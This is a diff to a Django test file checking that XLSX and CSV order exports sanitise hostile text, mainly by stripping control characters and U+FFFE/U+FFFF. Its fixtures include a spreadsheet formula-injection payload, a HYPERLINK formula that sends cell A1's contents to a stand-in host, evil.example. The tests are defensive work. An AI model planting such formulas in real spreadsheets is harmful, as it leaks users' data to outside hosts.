@@ -12,13 +12,14 @@ from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from kaspisync.export import clean_text
+from kaspisync.text import strip_controls
 from orders.models import Order, OrderEntry
 
 pytestmark = pytest.mark.django_db
 
-# Every C0 control but tab/newline/CR (NUL only where the database can store it), DEL and C1.
-CONTROLS = "".join(chr(c) for c in [*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x9F])
+# Every C0 control but tab/newline/CR (NUL only where the database can store it), DEL, C1 and the
+# non-characters U+FFFE/U+FFFF (an XLSX is XML: they would make the file unwritable).
+CONTROLS = "".join(chr(c) for c in [*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x9F, 0xFFFE, 0xFFFF])
 HOSTILE_NAME = f"Ноутбук\x07 Lenovo{CONTROLS} «IdeaPad» 💻 \u202eевил"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'
 
@@ -56,7 +57,11 @@ def support(client):
 
 
 def cleaned(text: str) -> str:
-    return "".join(ch for ch in text if ch in "\t\n\r" or (ord(ch) >= 32 and not 0x7F <= ord(ch) <= 0x9F))
+    return "".join(
+        ch
+        for ch in text
+        if ch in "\t\n\r" or (ord(ch) >= 32 and not 0x7F <= ord(ch) <= 0x9F and ch not in "\ufffe\uffff")
+    )
 
 
 def test_xlsx_export_of_hostile_text_downloads_and_keeps_the_text(support, hostile_order):
@@ -82,10 +87,10 @@ def test_csv_export_of_hostile_text_downloads_clean_and_formula_free(support, ho
     assert not any(ord(ch) < 32 and ch not in "\t\n\r" for cell in cells for ch in cell)
 
 
-def test_clean_text_keeps_every_printable_character():
+def test_strip_controls_keeps_every_printable_character():
     text = "Ұлттық «тауар» — €5 ½ 💻 \u05d0\u202e tab\tline\nend"
-    assert clean_text(text) == text
-    assert clean_text("a\x00b\x1fc\x7fd\x9fe\ud800f") == "abcdef"
+    assert strip_controls(text) == text
+    assert strip_controls("a\x00b\x1fc\x7fd\x9fe\ud800f") == "abcdef"
 
 
 def test_purchase_list_exports_of_hostile_supplier_text_download(client):
